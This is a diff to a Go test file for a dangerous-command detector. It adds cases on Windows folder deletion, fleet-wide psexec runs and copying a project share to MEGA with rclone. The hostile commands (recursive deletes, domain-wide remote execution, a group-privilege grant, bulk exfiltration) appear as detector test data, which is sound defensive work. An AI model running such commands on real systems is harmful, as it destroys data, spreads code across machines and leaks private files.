@@ -78,7 +78,8 @@ func TestRound55DatabaseSafeguards(t *testing.T) {
 // Windows file shares: a share its users map removed (net share /delete),
 // a domain's DFS namespace removed (a .local domain is no scratch name),
 // a file of a share emptied. The project's own share or a scratch one, a
-// dry run and a log of the project emptied pass.
+// dry run, a log of the project emptied and a project folder named as
+// temporary or a cache pass.
 func TestRound55WindowsShares(t *testing.T) {
 	d := NewDetector(Options{})
 	cmd := winCorpusContextFor("cmd")
@@ -97,6 +98,14 @@ func TestRound55WindowsShares(t *testing.T) {
 	checkSafe(t, d, ps, []string{
 		`Remove-DfsnRoot -Path '\\corp.local\files' -WhatIf`,
 		`Set-Content .\logs\debug.log -Value ''`,
+		// a project folder named as temporary or a cache
+		`Remove-Item -Recurse -Force C:\work\project\resolve-cache\CacheClip`,
+	})
+	checkSafe(t, d, cmd, []string{
+		`rd /s /q C:\work\project\proxies\_tmp`,
+	})
+	checkDanger(t, d, cmd, []dangerCase{
+		{`rd /s /q C:\work\project\proxies`, CategoryFileDelete, "win-delete-project", LevelModerate},
 	})
 }
 
@@ -259,5 +268,27 @@ func TestRound55AccountsAndGroups(t *testing.T) {
 	})
 	checkDanger(t, d, winCorpusContextFor("powershell"), []dangerCase{
 		{`Add-ADGroupMember -Identity 'FS-Projects-Modify' -Members 'Domain Users'`, CategoryPrivilege, "win-admin-group", LevelHigh},
+	})
+}
+
+// A program run on every machine of the domain or of a list (psexec \\*,
+// psexec @file); a share copied to MEGA's consumer storage. One named
+// machine's query and psexec's help pass.
+func TestRound55FleetAndPersonalStorage(t *testing.T) {
+	d := NewDetector(Options{})
+	cmd := winCorpusContextFor("cmd")
+	checkDanger(t, d, cmd, []dangerCase{
+		{`psexec \\* -s -c offboard.cmd`, CategoryRemoteExec, "win-fleet-exec", LevelCritical},
+		{`psexec @C:\work\project\pcs.txt -s -d \\fs01\public\update.exe`, CategoryRemoteExec, "win-fleet-exec", LevelCritical},
+	})
+	checkSafe(t, d, cmd, []string{
+		`psexec \\BUILD01 -s vssadmin list shadows`,
+		`psexec -?`,
+	})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`rclone copy /mnt/fs01/Projects mega:dump --transfers 16`, CategoryExfiltration, "private-dir-published", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`rclone copy /mnt/fs01/Projects s3-archive:projects --dry-run`,
 	})
 }
